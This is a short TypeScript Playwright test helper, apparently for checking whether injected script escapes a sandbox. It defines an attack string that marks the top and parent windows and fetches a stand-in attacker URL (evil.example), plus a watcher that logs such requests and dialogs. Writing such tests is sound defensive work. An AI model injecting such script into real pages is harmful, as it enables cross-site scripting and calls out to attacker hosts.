import type { Page } from '@playwright/test';

/** A script that leaves a mark in every window it reaches, and calls home. */
export const attack = "top.ran=1;parent.ran=1;fetch('https://evil.example/x')";

/** Records everything that `attack` does on a page from now on: requested URLs and shown texts. */
export function watchAttack(page: Page): readonly string[] {
  const strange: string[] = [];
  page.on('request', (request) => {
    if (request.url().includes('evil.example')) strange.push(request.url());
  });
  page.on('dialog', (dialog) => {
    strange.push(dialog.message());
    void dialog.dismiss();
  });
  return strange;
}
